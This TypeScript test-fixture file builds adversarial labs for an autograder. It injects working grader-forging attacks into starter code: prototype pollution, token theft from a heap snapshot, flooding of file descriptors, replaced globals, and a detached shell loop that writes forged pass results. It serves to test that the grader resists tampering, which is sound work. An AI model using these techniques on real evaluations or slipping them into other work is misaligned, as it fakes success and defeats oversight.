import type { FixtureLab } from '../fixture-lab';
import { insertBefore } from '../fixture-lab';

/** A lab that touches no TODO and tries to raise its score by attacking the grader instead. */
export interface ForgingLab extends FixtureLab {
  /** The day whose untouched starter it starts from. */
  day: 'd1' | 'd3' | 'd4';
  /** The attack it makes, the same on each day. */
  attack: string;
}

/** The first line of each day's starter entry: the attack goes before it, so it runs on import. */
const FIRST_ENTRY_LINE = {
  d1: "export { answerOnce } from './answer-once';",
  d3: "export { readOnlyTools } from './read-only-tools';",
  d4: "export { createTools } from './create-tools';",
};

/** Every check id of the released days: a forger claims them all, not knowing which one runs. */
const EVERY_CHECK_ID = [
  'quirk-streams',
  'usage-chunk',
  'cut-stream',
  'as-it-arrives',
  'first-token-and-usage',
  'http-error',
  'refused-connection',
  'tool-schemas',
  'path-boundary',
  'fragment-merging',
  'bad-arguments',
  'unknown-tool',
  'truncation',
  'call-order',
  'red-to-green',
  'no-match',
  'ambiguity',
  'bytes-preserved',
  'stale-edit',
  'timeout-group',
  'output-and-stdin',
];

/** The attacks, each as the lines a student would put at the top of the starter's entry. */
const ATTACKS: Array<{
  name: string;
  why: string;
  code: string[];
  /** The days it is made on, when it aims at one day's checks; every released day otherwise. */
  days?: Array<ForgingLab['day']>;
}> = [
  {
    name: 'to-json-on-every-object',
    why: 'a toJSON on Object.prototype rewrites whatever the check process serialises, its report envelope included, into a pass',
    code: [
      "Object.defineProperty(Object.prototype, 'toJSON', {",
      '  configurable: true,',
      '  writable: true,',
      '  value: function (this: Record<string, any>) {',
      "    if (this?.kind === 'finished' && this.result && typeof this.result === 'object') {",
      '      const { errorKind: _errorKind, ...rest } = this.result;',
      "      return { kind: 'finished', result: { ...rest, status: 'pass', message: '', hint: '' } };",
      '    }',
      "    if (this?.kind === 'threw') {",
      "      return { kind: 'answer', id: this.id, output: { ok: true, content: '' } };",
      '    }',
      '    return this;',
      '  },',
      '});',
    ],
  },
  {
    name: 'heap-snapshot-token',
    why: 'a heap snapshot yields every 64-hex-digit string in the check process, and passes for every check go to the message channel with each, every millisecond',
    code: [
      "import { getHeapSnapshot as forgerSnapshot } from 'node:v8';",
      "import { writeSync as forgerWrite } from 'node:fs';",
      `const forgerIds = ${JSON.stringify(EVERY_CHECK_ID)};`,
      'void (async () => {',
      "  let text = '';",
      '  for await (const chunk of forgerSnapshot()) text += String(chunk);',
      '  const tokens = [...new Set(text.match(/[0-9a-f]{64}/g) ?? [])];',
      '  const flood = () => {',
      '    for (const token of tokens) {',
      '      for (const id of forgerIds) {',
      "        const result = { id, title: id, status: 'pass', message: '', hint: '' };",
      '        try {',
      "          forgerWrite(3, `${JSON.stringify({ token, message: { kind: 'finished', result } })}\\n`);",
      '        } catch {',
      '          // the channel may be gone',
      '        }',
      '      }',
      '    }',
      '  };',
      '  flood();',
      '  setInterval(flood, 1);',
      '})();',
    ],
  },
  {
    name: 'writes-every-descriptor',
    why: "junk, a line over the channel's limit, and answers, begun and ended messages for any step go to every file descriptor from 0 to 9, every millisecond",
    code: [
      "import { writeSync as forgerWrite } from 'node:fs';",
      "const forgerOk = { ok: true, content: 'x', meta: {} };",
      'const forgerLines = [',
      "  'not json',",
      "  JSON.stringify({ kind: 'begun' }),",
      "  JSON.stringify({ kind: 'ended' }),",
      "  JSON.stringify({ kind: 'ready' }),",
      '  ...Array.from({ length: 50 }, (_, id) =>',
      "    JSON.stringify({ kind: 'answer', id, output: forgerOk }),",
      '  ),',
      "].join('\\n');",
      'let forgerLong = true;',
      'const forgerFlood = () => {',
      '  for (let fd = 0; fd <= 9; fd++) {',
      '    try {',
      '      forgerWrite(fd, `${forgerLines}\\n`);',
      "      if (forgerLong && fd === 3) forgerWrite(fd, `${'x'.repeat(2_000_000)}\\n`);",
      '    } catch {',
      '      // not open',
      '    }',
      '  }',
      '  forgerLong = false;',
      '};',
      'forgerFlood();',
      'setInterval(forgerFlood, 1);',
    ],
  },
  {
    name: 'replaces-globals',
    why: 'JSON, fetch, console, process.stdout.write, process.exit, setTimeout, structuredClone, Buffer.from and fs.writeSync are replaced with versions that report success',
    code: [
      "import { createRequire as forgerRequire } from 'node:module';",
      "const forgerFs = forgerRequire(import.meta.url)('node:fs') as typeof import('node:fs');",
      'const forgerRealWrite = forgerFs.writeSync;',
      'const forgerRealStringify = JSON.stringify;',
      'const forgerPass = (text: string) =>',
      '  text.replace(/"status":"(fail|error)"/g, \'"status":"pass"\').replace(/"kind":"threw"/g, \'"kind":"answer"\');',
      'JSON.stringify = ((value: unknown, ...rest: never[]) =>',
      '  forgerPass(String(forgerRealStringify(value, ...rest)))) as typeof JSON.stringify;',
      'const forgerRealParse = JSON.parse;',
      'JSON.parse = ((text: string, ...rest: never[]) => forgerRealParse(forgerPass(String(text)), ...rest)) as typeof JSON.parse;',
      'forgerFs.writeSync = ((fd: number, data: unknown, ...rest: never[]) =>',
      "  forgerRealWrite(fd, typeof data === 'string' ? forgerPass(data) : Buffer.isBuffer(data) ? Buffer.from(forgerPass(data.toString())) : (data as never), ...rest)) as typeof forgerFs.writeSync;",
      "globalThis.fetch = (async () => new Response('{}')) as typeof fetch;",
      'console.log = () => {};',
      'console.error = () => {};',
      'process.stdout.write = (() => true) as typeof process.stdout.write;',
      'process.exit = (() => undefined as never) as typeof process.exit;',
      'globalThis.setTimeout = ((callback: () => void) => {',
      '  queueMicrotask(callback);',
      '  return 0;',
      '}) as unknown as typeof setTimeout;',
      'globalThis.structuredClone = ((value: unknown) => value) as typeof structuredClone;',
      'const forgerRealFrom = Buffer.from.bind(Buffer);',
      'Buffer.from = ((value: unknown, ...rest: never[]) =>',
      "  typeof value === 'string' ? forgerRealFrom(forgerPass(value), ...rest) : forgerRealFrom(value as never, ...rest)) as typeof Buffer.from;",
    ],
  },
  {
    name: 'pollutes-prototypes',
    why: 'getters on Object.prototype (status, passed, ok, kind), Array.prototype, Promise.prototype.then, Map.prototype.get and Symbol.toPrimitive are bent towards a pass',
    code: [
      "for (const [name, value] of [['passed', true], ['ok', true], ['status', 'pass']] as const) {",
      '  Object.defineProperty(Object.prototype, name, {',
      '    configurable: true,',
      '    get: () => value,',
      '    set(this: object, own: unknown) {',
      '      Object.defineProperty(this, name, { value: own, writable: true, enumerable: true, configurable: true });',
      '    },',
      '  });',
      '}',
      'Object.defineProperty(Object.prototype, Symbol.toPrimitive, { configurable: true, value: () => 8054 });',
      'const forgerIncludes = Array.prototype.includes;',
      'Array.prototype.includes = function (this: unknown[], ...args: never[]) {',
      '  return forgerIncludes.apply(this, args) || this.length > 0;',
      '};',
      'const forgerThen = Promise.prototype.then;',
      'Promise.prototype.then = function (this: Promise<unknown>, resolve?: never, reject?: never) {',
      '  return forgerThen.call(this, resolve, reject);',
      '} as typeof Promise.prototype.then;',
      'const forgerGet = Map.prototype.get;',
      'Map.prototype.get = function (this: Map<unknown, unknown>, key: unknown) {',
      "  return forgerGet.call(this, key) ?? { status: 'pass', message: '', hint: '' };",
      '};',
    ],
  },
  {
    name: 'talks-to-the-grader-from-another-process',
    why: "a process of the lab's own, outside Node, writes forged answers to the channel it inherited, without end",
    code: [
      "import { spawn as forgerSpawn } from 'node:child_process';",
      'const forgerAnswers = Array.from({ length: 50 }, (_, id) =>',
      "  JSON.stringify({ kind: 'answer', id, output: { ok: true, content: 'x' } }),",
      ").join('\\n');",
      "forgerSpawn('sh', ['-c', `while :; do printf '%s\\\\n' '${forgerAnswers}' >&3; done`], {",
      "  stdio: ['ignore', 'ignore', 'ignore', 3],",
      '  detached: true,',
      '}).unref();',
    ],
  },
  {
    name: 'answers-its-own-steps',
    why: "the lab reads the check process's requests on stdin and answers day 1's answer steps itself first, with what a streaming answerOnce would have forwarded, worked out from the step's input",
    days: ['d1'],
    code: [
      "import { writeSync as forgerWrite } from 'node:fs';",
      "let forgerPartial = '';",
      "process.stdin.on('data', (chunk: unknown) => {",
      "  const lines = (forgerPartial + String(chunk)).split('\\n');",
      "  forgerPartial = lines.pop() ?? '';",
      '  for (const line of lines) {',
      '    let request: any;',
      '    try {',
      '      request = JSON.parse(line);',
      '    } catch {',
      '      continue;',
      '    }',
      "    if (request?.kind !== 'drive' || request.operation !== 'answer') continue;",
      '    const { events, times, start } = request.input;',
      '    let firstTokenMs: number | undefined;',
      '    let usage: unknown;',
      '    const forwarded: unknown[] = [];',
      '    events.forEach((event: any, index: number) => {',
      "      if (event.type === 'usage') usage = { promptTokens: event.promptTokens, completionTokens: event.completionTokens };",
      "      if (event.type !== 'text-delta' || event.text === '') return;",
      '      firstTokenMs ??= times[index] - start;',
      '      forwarded.push({ event, afterModelEvents: index + 1 });',
      '    });',
      "    const stats = { finishReason: 'stop', firstTokenMs, usage };",
      "    forwarded.push({ event: { type: 'answer-stats', stats }, afterModelEvents: events.length });",
      "    const output = { forwarded, stopReason: 'done' };",
      "    forgerWrite(3, `${JSON.stringify({ kind: 'answer', id: request.id, output })}\\n`);",
      '  }',
      '});',
    ],
  },
];
/**
 * Each attack on each released day's untouched starter. forging-labs.test.ts grades every one as
 * root with student code as nobody, and scripts' autograder-dry-run.release.test.ts through both
 * autograder bundles: none may score above its starter's baseline.
 */
export const FORGING_LABS: ForgingLab[] = ATTACKS.flatMap((attack) =>
  (attack.days ?? (['d1', 'd3', 'd4'] as const)).map((day) => ({
    name: `${attack.name}-${day}`,
    group: 'forging-labs' as const,
    day,
    attack: attack.name,
    why: attack.why,
    mutations: [
      insertBefore({
        file: 'src/index.ts',
        anchor: FIRST_ENTRY_LINE[day],
        text: `${attack.code.join('\n')}\n`,
      }),
    ],
  })),
);
